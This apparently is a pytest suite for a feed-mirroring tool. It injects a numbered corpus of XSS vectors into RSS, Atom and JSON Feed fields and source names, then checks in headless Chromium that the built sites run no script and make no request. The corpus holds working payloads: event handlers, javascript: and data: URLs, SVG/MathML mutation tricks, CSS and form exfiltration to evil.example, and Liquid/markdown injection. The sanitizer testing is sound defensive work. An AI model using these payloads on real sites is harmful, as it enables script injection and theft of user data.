"""Hostile content: a corpus of script-injection vectors, placed in every field a feed
has (titles, content, links, categories, authors, GUIDs; RSS, Atom and JSON Feed) and in
the source names, goes through a real run; then the Jekyll mirror (built by real Jekyll)
and the built site are loaded in headless Chromium with traps on dialogs and on script
execution, every event handler provoked and every non-web link clicked: zero executions,
no request to another host, no navigation away.

Every vector that could run calls ``alert(N)`` with its own number, so a trap that fires
names the vector; vectors that could only leak a request name evil.example. CSP is
bypassed in the browser: the sanitizer, not the layout's policy, is under test.
"""

from __future__ import annotations

import base64
import html
import json
import re
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import quote, unquote, urlsplit

import pytest
from lxml import html as lxml_html

from newsmirror.config import Config, load_config, sources_toml
from newsmirror.loopback import LoopbackServer
from newsmirror.models import OutcomeKind, RunReport
from newsmirror.pipeline import run
from newsmirror.postfile_record import parse_post
from newsmirror.scaffold import init_mirror, jekyll_available, jekyll_env
from newsmirror.store import parse_ts

T = "__N__"  # replaced by the vector's number

FAMILIES: dict[str, list[str]] = {
    "script tags": [
        f"<script>alert({T})</script>", f"<SCRIPT>alert({T})</SCRIPT>",
        f"<ScRiPt >alert({T})</sCrIpT >", f"<script/x>alert({T})</script>",
        f'<script src="data:text/javascript,alert({T})"></script>',
        f"<script>alert&#40;{T}&#41;</script>", f"&lt;script&gt;alert({T})&lt;/script&gt;",
        f"&amp;lt;script&amp;gt;alert({T})&amp;lt;/script&amp;gt;",
        f"＜script＞alert({T})＜/script＞", f"+ADw-script+AD4-alert({T})+ADw-/script+AD4-",
        f"<![CDATA[<script>alert({T})</script>]]>", f'<script type="module">alert({T})</script>',
    ],
    "event handlers": [
        f"<img src=x onerror=alert({T})>", f'<IMG SRC=x ONERROR="alert({T})">',
        f"<img/src=x/onerror=alert({T})>", f'<img src="x" onerror="&#97;lert({T})">',
        f"<body onload=alert({T})>", f"<svg onload=alert({T})>",
        f"<details open ontoggle=alert({T})>x</details>", f"<input autofocus onfocus=alert({T})>",
        f"<video><source onerror=alert({T})></video>", f"<audio src=x onerror=alert({T})>",
        f"<marquee onstart=alert({T})>x</marquee>", f"<div onmouseover=alert({T})>hover</div>",
        f"<a href=# onclick=alert({T})>click</a>", f"<p onanimationstart=alert({T})>a</p>",
        f"<select autofocus onfocus=alert({T})></select>", f"<object data=x onerror=alert({T})>",
    ],
    "javascript and data urls": [
        f'<a href="javascript:alert({T})">j1</a>', f'<a href="JaVaScRiPt:alert({T})">j2</a>',
        f'<a href="java&#x09;script:alert({T})">j3</a>', f'<a href="&#106;avascript:alert({T})">j4</a>',
        f'<a href="jav&#x0A;ascript:alert({T})">j5</a>', f'<a href=" &#14; javascript:alert({T})">j6</a>',
        f'<a href="javascript&colon;alert({T})">j7</a>', f'<a href="vbscript:msgbox({T})">v</a>',
        f'<a href="data:text/html,<script>alert({T})</script>">d1</a>',
        '<a href="data:text/html;base64,' + base64.b64encode(f"<script>alert({T})</script>".encode()).decode() + '">d2</a>',
        f'<img src="javascript:alert({T})">', f'<iframe src="javascript:alert({T})"></iframe>',
        f'<iframe src="data:text/html,<script>alert({T})</script>"></iframe>',
        f'<form action="javascript:alert({T})"><input type=submit></form>',
        f'<button formaction="javascript:alert({T})">b</button>', f'<embed src="javascript:alert({T})">',
        f'<object data="javascript:alert({T})"></object>',
        f'<a href="http://127.0.0.1/&quot;onmouseover=&quot;alert({T})">q</a>',
        f'<a href="ja<!-- -->vascript:alert({T})">c</a>',
    ],
    "svg and mathml": [
        f"<svg><script>alert({T})</script></svg>", f"<svg><animate onbegin=alert({T}) attributeName=x dur=1s>",
        f'<svg><a xlink:href="javascript:alert({T})"><text x=20 y=20>x</text></a></svg>',
        f'<svg><set attributeName=href to="javascript:alert({T})"/></svg>',
        f'<svg><foreignObject><iframe srcdoc="<script>alert({T})</script>"></iframe></foreignObject></svg>',
        f"<math><mtext><table><mglyph><style><img src=x onerror=alert({T})></style></mglyph></table></mtext></math>",
        f'<math><mi xlink:href="javascript:alert({T})">x</mi></math>', f'<math href="javascript:alert({T})">m</math>',
        f"<svg><style><img src=x onerror=alert({T})></style></svg>",
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert({T})>",
        '<svg><image href="http://evil.example/svg.png"/></svg>',
    ],
    "base meta form iframe": [
        f'<base href="javascript:alert({T})//">', '<base href="http://evil.example/">',
        f'<meta http-equiv="refresh" content="0;url=javascript:alert({T})">',
        '<meta http-equiv="refresh" content="0;url=http://evil.example/">', '<meta charset="utf-7">',
        '<form action="http://evil.example/steal"><input name=p type=password><button>go</button></form>',
        f"<isindex action=javascript:alert({T}) type=submit>",
        f'<iframe srcdoc="<script>alert({T})</script>"></iframe>',
        f'<iframe srcdoc="&lt;img src=x onerror=alert({T})&gt;"></iframe>',
        f'<frameset><frame src="javascript:alert({T})"></frameset>',
        '<iframe src="http://evil.example/frame"></iframe>', '<embed src="http://evil.example/e.swf">',
        '<object data="http://evil.example/o"></object>', '<input type=image src="http://evil.example/i.png">',
        '<video poster="http://evil.example/p.png"></video>', '<table background="http://evil.example/t.png"><tr><td>t</td></tr></table>',
    ],
    "css tricks": [
        "<style>@import 'http://evil.example/x.css';</style>",
        '<style>*{background:url("http://evil.example/bg.png")}</style>',
        '<div style="background:url(http://evil.example/bg.png)">s1</div>',
        f'<div style="background-image:url(javascript:alert({T}))">s2</div>',
        f'<div style="width:expression(alert({T}))">s3</div>',
        '<link rel=stylesheet href="http://evil.example/x.css">',
        '<div style="behavior:url(x.htc);-moz-binding:url(http://evil.example/x.xml#x)">s4</div>',
        '<style>@font-face{font-family:x;src:url(http://evil.example/f.woff)}</style><p style="font-family:x">f</p>',
        '<svg><style>@import url(http://evil.example/s.css);</style></svg>',
        f'<p style="animation-name:x" onanimationend=alert({T})>a</p>',
    ],
    "broken markup that re-forms": [
        f"<scr<script>ipt>alert({T})</scr</script>ipt>", f"<<script>script>alert({T})<</script>/script>",
        f'<noscript><p title="</noscript><img src=x onerror=alert({T})>"></noscript>',
        f'<!--<img src="--><img src=x onerror=alert({T})//">', f"<title><img src=x onerror=alert({T})></title>",
        f"<textarea><img src=x onerror=alert({T})></textarea>", f"<xmp><img src=x onerror=alert({T})></xmp>",
        f"<noembed><img src=x onerror=alert({T})></noembed>",
        f'<svg></p><style><a id="</style><img src=1 onerror=alert({T})>">',
        f"<img src=\"x` `<script>alert({T})</script>\"` `>", f"<div><img src=x onerror=alert({T})",
        f'<a href="javascript:alert({T})"', f"<![CDATA[><img src=x onerror=alert({T})>]]>",
        f"<?xml-stylesheet href=\"javascript:alert({T})\"?>", f"<plaintext><img src=x onerror=alert({T})>",
    ],
    "markdown and liquid": [
        f"[x](javascript:alert({T}))", f'{{: onclick="alert({T})"}}', f"{{{{ '<script>alert({T})</script>' }}}}",
        f"{{% raw %}}<script>alert({T})</script>{{% endraw %}}", f"<span>{{::nomarkdown}}<script>alert({T})</script>{{:/}}</span>",
        f"---\nlayout: x\n---\n<script>alert({T})</script>", f"<div markdown=\"1\">[m](javascript:alert({T}))</div>",
    ],
}  # fmt: skip

HOSTILE_NAMES = (
    "<img src=x onerror=alert(901)>",
    '"><svg/onload=alert(902)>',
    "{{7*7}}<script>alert(903)</script>",
    "[名](javascript:alert(904)) {: onclick=alert(905)}",
)


def vectors() -> list[tuple[int, str, str]]:
    """(number, family, vector) for every vector, numbered from 1."""
    out: list[tuple[int, str, str]] = []
    for family, items in FAMILIES.items():
        for v in items:
            n = len(out) + 1
            out.append((n, family, v.replace(T, str(n))))
    return out


def _x(s: str) -> str:
    return html.escape(s, quote=False)


def hostile_rss(base: str, vs: list[tuple[int, str, str]]) -> bytes:
    """Every vector in content and category; as the title (half of them decoded once more,
    so the title keeps literal markup); javascript:/data:/quote-breaking links."""
    bad_links = ("javascript:alert({n})", "data:text/html,<script>alert({n})</script>",
                 '{base}/q/{n}?"><script>alert({n})</script>', "{base}/ok/{n}")  # fmt: skip
    items = []
    for n, _family, v in vs:
        title = f"攻擊向量{n} {v}" if n % 2 else _x(f"攻擊向量{n} {v}")
        link = bad_links[n % 4].format(n=n, base=base) if n % 3 == 0 else f"{base}/a/{n}"
        items.append(
            f"<item><title>{_x(title)}</title><link>{_x(link)}</link>"
            f'<guid isPermaLink="false">{_x(v)}</guid><author>{_x(v)}</author>'
            f"<category>{_x(v)}</category><pubDate>Tue, 24 Nov 2026 08:{n % 60:02d}:00 +0000</pubDate>"
            f"<description>{_x(f'<p>第{n}則：{v}</p><p>內文照常。</p>')}</description></item>"
        )
    return (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>'
        + _x("<script>alert(999)</script>頻道") + f"</title><link>{base}/</link>"
        + "".join(items) + "</channel></rss>"
    ).encode()  # fmt: skip


def hostile_atom(base: str, vs: list[tuple[int, str, str]]) -> bytes:
    """Atom: html titles, xhtml content with live markup, javascript: alternate links."""
    entries = []
    for n, _family, v in vs[::6]:
        xhtml = f"<p>原子{n}</p><script>alert({n})</script><img src='x' onerror='alert({n})'/>"
        link = f"javascript:alert({n})" if n % 2 else f"{base}/atom/{n}"
        entries.append(
            f'<entry><id>urn:x:{n}</id><title type="html">{_x(f"原子標題{n} {v}")}</title>'
            f'<link rel="alternate" href="{html.escape(link)}"/><updated>2026-11-24T09:00:00Z</updated>'
            f'<author><name>{_x(v)}</name></author><category term="{html.escape(v)}"/>'
            f'<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">{xhtml}</div></content>'
            f'<summary type="html">{_x(v)}</summary></entry>'
        )
    return (
        '<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom">'
        "<title>原子</title><id>urn:x:feed</id><updated>2026-11-24T09:00:00Z</updated>"
        + "".join(entries) + "</feed>"
    ).encode()  # fmt: skip


def hostile_json(base: str, vs: list[tuple[int, str, str]]) -> bytes:
    """JSON Feed: what XML cannot carry (NUL and C0 controls inside tags and schemes)."""
    items = []
    for n, _family, v in vs[1::6]:
        items.append({
            "id": f"j{n}", "url": f"\x01javascript:alert({n})" if n % 2 else f"{base}/json/{n}",
            "title": f"結構{n} {v}", "date_published": "2026-11-24T10:00:00Z",
            "content_html": f"<p>結構{n}</p><scr\x00ipt>alert({n})</scr\x00ipt>{v}"
                            f"<a href=\"java\x00script:alert({n})\">n</a><img src=x o\x00nerror=alert({n})>",
            "tags": [v, "<b>標籤</b>"], "authors": [{"name": v}],
        })  # fmt: skip
    doc = {"version": "https://jsonfeed.org/version/1.1", "title": "結構", "items": items}
    return json.dumps(doc, ensure_ascii=False).encode()


# ---- the mirror --------------------------------------------------------------------------

NOW = parse_ts("2026-11-28T08:00:00.000Z")
CHROMIUM = "/usr/bin/chromium"
FLAGS = [
    "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
    "--disable-background-networking", "--disable-component-update", "--disable-sync",
]  # fmt: skip


@dataclass
class Hostile:
    root: Path
    config: Config
    report: RunReport
    vectors: list[tuple[int, str, str]]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hostile]:
    root = tmp_path_factory.mktemp("hostile") / "m"
    vs = vectors()
    with LoopbackServer() as server:
        b = server.base_url
        server.add("/rss.xml", hostile_rss(b, vs), content_type="application/rss+xml")
        server.add("/atom.xml", hostile_atom(b, vs), content_type="application/atom+xml")
        server.add("/feed.json", hostile_json(b, vs), content_type="application/feed+json")
        triples = [(HOSTILE_NAMES[0], "rss", server.url("/rss.xml")),
                   (HOSTILE_NAMES[1], "atom", server.url("/atom.xml")),
                   (HOSTILE_NAMES[2], "json", server.url("/feed.json")),
                   (HOSTILE_NAMES[3], "rss-again", server.url("/rss.xml") + "?again")]  # fmt: skip
        text = '[fetch]\nretries = 0\n\n[defaults]\nfulltext = "feed"\n\n' + sources_toml(triples)
        init_mirror(root, config_text=text)
        cfg = load_config(root / "newsmirror.toml")
        report = run(cfg, now=NOW)
    yield Hostile(root, cfg, report, vs)


def test_the_run_keeps_every_hostile_item(hostile: Hostile) -> None:
    for s in hostile.report.sources:
        assert not s.error, s.error
    rss = next(s for s in hostile.report.sources if s.slug == "rss")
    assert len(rss.outcomes) == len(hostile.vectors)
    posts = list((hostile.root / "_posts").glob("*.md"))
    assert len(posts) == hostile.report.total(OutcomeKind.NEW) >= len(hostile.vectors)
    again = next(s for s in hostile.report.sources if s.slug == "rss-again")
    assert {o.reason for o in again.outcomes} == {"duplicate"}  # one post per article


_EVENT_ATTR = re.compile(r"^on", re.I)
_BAD_URL = re.compile(r"^(?:javascript|vbscript|data|file):", re.I)
_URL_ATTRS = ("href", "src", "action", "formaction", "xlink:href", "data", "poster", "background")


def test_posts_hold_only_inert_markup(hostile: Hostile) -> None:
    """Statically: every post parses; its HTML has no active element, handler or URL."""
    problems = []
    for p in sorted((hostile.root / "_posts").glob("*.md")):
        rec = parse_post(p.read_text(encoding="utf-8"), path=p.name)
        if not rec.content:
            continue
        tree = lxml_html.fragment_fromstring(rec.content, create_parent="div")
        for el in tree.iter():
            if not isinstance(el.tag, str):
                continue
            if el.tag in ("script", "style", "iframe", "object", "embed", "base", "meta", "form",
                          "svg", "math", "link", "frame", "input", "button", "textarea"):  # fmt: skip
                problems.append(f"{p.name}: <{el.tag}>")
            for name, value in el.attrib.items():
                clean = re.sub(r"[\x00-\x20]", "", value)
                if _EVENT_ATTR.match(name) or name in ("style", "srcdoc"):
                    problems.append(f"{p.name}: {el.tag}@{name}")
                if (
                    name in _URL_ATTRS
                    and _BAD_URL.match(clean)
                    and not clean.startswith("data:image/")
                ):
                    problems.append(f"{p.name}: {el.tag}@{name}={value[:40]}")
    assert not problems, problems[:10]


# ---- the browser ---------------------------------------------------------------------------

TRAP = """
window.__xss = [];
for (const name of ["alert", "confirm", "prompt", "print"]) {
  const note = (...args) => { (window.top.__xss || window.__xss).push(name + ":" + args.join(",")); };
  try { Object.defineProperty(window, name, {value: note, writable: false}); } catch (e) {}
}
"""

PROVOKE = """() => {
  const types = ["mouseover", "mouseenter", "mousedown", "mouseup", "focus", "focusin", "blur",
    "toggle", "load", "error", "animationstart", "animationend", "begin", "start", "pointerover",
    "input", "change", "submit", "keydown"];
  for (const el of document.querySelectorAll("*")) {
    for (const t of types) { try { el.dispatchEvent(new Event(t)); } catch (e) {} }
  }
  let clicked = 0;
  for (const a of document.querySelectorAll("a[href], area[href], [formaction]")) {
    const url = a.href || a.getAttribute("formaction") || "";
    if (!/^(https?:|mailto:|#|$)/i.test(url.trim())) { a.click(); clicked++; }
  }
  return clicked;
}"""

SCAN = """() => {
  const bad = [];
  const urlAttrs = ["href", "src", "action", "formaction", "xlink:href", "data", "poster",
                    "background", "srcdoc"];
  for (const el of document.body.querySelectorAll("*")) {
    if (el.closest("form#search, #search-more")) continue;  // the built site's own search
    const tag = el.tagName.toLowerCase();
    if (["iframe", "frame", "object", "embed", "base", "meta", "form", "link", "style", "svg",
         "math", "input", "button", "textarea"].includes(tag)) bad.push("<" + tag + ">");
    if (tag === "script" && !(el.src && new URL(el.src).origin === location.origin && !el.text.trim()))
      bad.push("<script> " + (el.src || el.text.slice(0, 40)));
    for (const at of el.attributes) {
      const v = at.value.replace(/[\\x00-\\x20]/g, "").toLowerCase();
      if (at.name.toLowerCase().startsWith("on")) bad.push(tag + "@" + at.name);
      if (urlAttrs.includes(at.name.toLowerCase()) && /^(javascript|vbscript|data:text|file)/.test(v))
        bad.push(tag + "@" + at.name + "=" + v.slice(0, 30));
      if (at.name === "style") bad.push(tag + "@style");
    }
  }
  return bad;
}"""


@dataclass
class Findings:
    executed: list[str] = field(default_factory=list)
    foreign: list[str] = field(default_factory=list)
    scan: list[str] = field(default_factory=list)
    moved: list[str] = field(default_factory=list)
    pages: int = 0
    clicked: int = 0


class Browser:
    """One Chromium page with the traps; ``visit`` loads a URL and records findings."""

    def __init__(self, pw: Any) -> None:
        # Everything but loopback goes to a closed port: a request that leaked is
        # recorded by the listener, and never leaves the machine.
        dead_proxy = ["--proxy-server=http://127.0.0.1:9", "--proxy-bypass-list=127.0.0.1"]
        self.browser = pw.chromium.launch(executable_path=CHROMIUM, args=FLAGS + dead_proxy)
        self.context = self.browser.new_context(bypass_csp=True, java_script_enabled=True)
        self.context.add_init_script(TRAP)
        self.page = self.context.new_page()
        self.found = Findings()
        self.current = ""
        self.page.on("dialog", self._dialog)
        self.page.on(
            "popup", lambda p: self.found.moved.append(f"popup {p.url} from {self.current}")
        )
        self.page.on("request", self._request)

    def _dialog(self, dialog: Any) -> None:
        self.found.executed.append(f"dialog {dialog.type}:{dialog.message} on {self.current}")
        dialog.dismiss()

    def _request(self, request: Any) -> None:
        url = request.url
        if (urlsplit(url).hostname or "") != "127.0.0.1" and not url.startswith("data:image/"):
            self.found.foreign.append(f"{url[:80]} from {self.current}")

    def visit(self, url: str) -> None:
        self.current = url
        self.page.goto(url, wait_until="domcontentloaded")
        if "search.html?q=" in url:  # results are rendered by the site's script
            self.page.wait_for_selector("#search-results li", timeout=15_000)
        scan, clicked = self.page.evaluate(f"() => [({SCAN})(), ({PROVOKE})()]")
        self.found.scan += [f"{s} on {url}" for s in scan]
        self.found.clicked += clicked
        self.page.wait_for_timeout(20)  # let a click's javascript: navigation run
        if unquote(self.page.url.split("?")[0]) != unquote(url.split("?")[0]):  # the path
            self.found.moved.append(f"{url} -> {self.page.url}")
            self.page.goto(url, wait_until="domcontentloaded")
        calls = self.page.evaluate("() => window.__xss")
        self.found.executed += [f"{c} on {url}" for c in calls]
        self.found.pages += 1

    def close(self) -> None:
        self.context.close()
        self.browser.close()


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    if not Path(CHROMIUM).exists():
        pytest.skip("Debian chromium not installed")
    sync_api = pytest.importorskip("playwright.sync_api")
    with sync_api.sync_playwright() as pw:
        b = Browser(pw)
        yield b
        b.close()


class _Quiet(SimpleHTTPRequestHandler):
    def log_message(self, format: str, *args: object) -> None:  # noqa: A002
        pass


def serve(folder: Path) -> tuple[ThreadingHTTPServer, str]:
    srv = ThreadingHTTPServer(("127.0.0.1", 0), partial(_Quiet, directory=str(folder)))
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    return srv, f"http://127.0.0.1:{srv.server_address[1]}/"


def visit_all(browser: Browser, folder: Path, extra: tuple[str, ...] = ()) -> Findings:
    browser.found = Findings()
    srv, base = serve(folder)
    try:
        pages = sorted(p.relative_to(folder).as_posix() for p in folder.rglob("*.html"))
        for rel in [*pages, *extra]:
            browser.visit(base + quote(rel, safe="/?=&%"))
    finally:
        srv.shutdown()
        srv.server_close()
    return browser.found


def assert_inert(found: Findings, min_pages: int) -> None:
    assert found.pages >= min_pages
    assert found.executed == [], found.executed[:10]
    assert found.foreign == [], found.foreign[:10]
    assert found.moved == [], found.moved[:10]
    assert found.scan == [], found.scan[:10]


def test_jekyll_mirror_runs_nothing_in_chromium(
    hostile: Hostile, browser: Browser, tmp_path: Path
) -> None:
    import subprocess

    if not jekyll_available():
        pytest.skip("jekyll is not installed")
    dest = tmp_path / "site"
    proc = subprocess.run(
        ["jekyll", "build", "--safe", "--destination", str(dest)],
        cwd=hostile.root, env=jekyll_env(), capture_output=True, text=True, timeout=600,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stdout + proc.stderr
    posts = len(list((hostile.root / "_posts").glob("*.md")))
    found = visit_all(browser, dest)
    assert_inert(found, posts)


def test_built_site_runs_nothing_in_chromium(
    hostile: Hostile, browser: Browser, tmp_path: Path
) -> None:
    try:
        from newsmirror.site import SiteSettings, build_site
    except ImportError:
        pytest.skip("the built site (newsmirror build) is not in this tree yet")
    search = True
    out = tmp_path / "out"
    build_site(
        hostile.config,
        out,
        settings=SiteSettings(title="<script>alert(998)</script>", search=search),
    )
    extra = ("search.html?q=攻擊向量", "search.html?q=alert") if search else ()
    found = visit_all(browser, out, extra)
    assert_inert(found, len(hostile.vectors))


def test_the_traps_catch_live_vectors(browser: Browser, tmp_path: Path) -> None:
    """The harness can fail: a page with live vectors is caught by every trap (its CSP,
    like the mirror layout's, is bypassed: the content itself is under test)."""
    (tmp_path / "live.html").write_text(
        "<!DOCTYPE html><head><meta http-equiv='Content-Security-Policy' content=\"script-src "
        "'none'\"></head><body><img src=x onerror=alert(1)><a href='javascript:alert(2)'>j</a>"
        "<div onmouseover=alert(3)>d</div><iframe srcdoc='<script>alert(4)</script>'></iframe>"
        "<img src='http://evil.example/p.png'><script>confirm(5)</script></body>",
        encoding="utf-8",
    )
    found = visit_all(browser, tmp_path)
    calls = " ".join(found.executed)
    for call in ("alert:1", "alert:2", "alert:3", "alert:4", "confirm:5"):
        assert call in calls, found.executed
    assert any("evil.example" in f for f in found.foreign)
    assert {"img@onerror", "div@onmouseover", "<iframe>"} <= {
        x.split(" on ")[0] for x in found.scan
    }


def test_the_text_report_prints_hostile_text_literally(tmp_path: Path) -> None:
    import os
    import subprocess
    import sys

    with LoopbackServer() as server:
        server.redirect("/r", "ftp://127.0.0.1/[/bold][red]x")
        (tmp_path / "newsmirror.toml").write_text(
            "[fetch]\nretries = 0\n\n" + sources_toml([("紅", "r", server.url("/r"))]),
            encoding="utf-8",
        )
        proc = subprocess.run(
            [sys.executable, "-m", "newsmirror", "run", "--config", str(tmp_path / "newsmirror.toml")],
            capture_output=True, text=True, timeout=120, env={**os.environ, "COLUMNS": "200"},
        )  # fmt: skip
    assert "Traceback" not in proc.stderr, proc.stderr[-1500:]
    assert proc.returncode == 1  # every source failed: reported, not crashed
    assert "[/bold][red]x is not allowed" in proc.stdout
